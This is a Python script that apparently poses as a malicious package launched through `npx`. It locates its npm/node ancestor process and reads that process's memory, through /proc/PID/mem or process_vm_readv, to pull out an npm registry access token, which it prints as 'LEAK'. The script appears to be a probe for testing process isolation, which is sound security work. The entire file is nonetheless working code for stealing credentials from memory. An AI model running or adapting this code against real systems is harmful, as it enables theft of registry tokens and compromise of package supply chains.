#!/usr/bin/env python3
"""A package `npx` runs, after the login npm read: it reaches into npm, its ancestor and the
server's root, for the registry token npm holds in memory.

usage: runner_thief.py mem|vm
  mem: /proc/NPM/maps, then every readable region of /proc/NPM/mem, searched for an npm
       access token (`npm_` and 36 letters and digits);
  vm:  process_vm_readv on npm (the syscall alone is the attempt).
Prints `LEAK <bytes>` when it got that far.
"""
import ctypes
import os
import re
import sys

TOKEN = re.compile(rb"npm_[A-Za-z0-9]{36}(?![A-Za-z0-9])")


def npm_pid():
    """The nearest ancestor running node: npm, the server's root."""
    p = os.getppid()
    while p > 1:
        try:
            if os.path.basename(os.readlink(f"/proc/{p}/exe")) == "node":
                return p
        except OSError:
            pass
        with open(f"/proc/{p}/stat") as f:
            p = int(f.read().rsplit(")", 1)[1].split()[1])
    sys.exit("no node ancestor")


def scan(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in span.split("-"))
            if "r" not in perms or hi - lo > 1 << 28:
                continue
            try:
                mem.seek(lo)
                buf = mem.read(hi - lo)
            except OSError:
                continue
            m = TOKEN.search(buf)
            if m:
                return m.group(0)
    return b"(not found)"


def vm_read(pid):
    class Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(64)
    local = Iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = Iovec(0x400000, 64)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return f"process_vm_readv returned {n}".encode()


pid = npm_pid()
got = scan(pid) if sys.argv[1] == "mem" else vm_read(pid)
print("LEAK", got, flush=True)
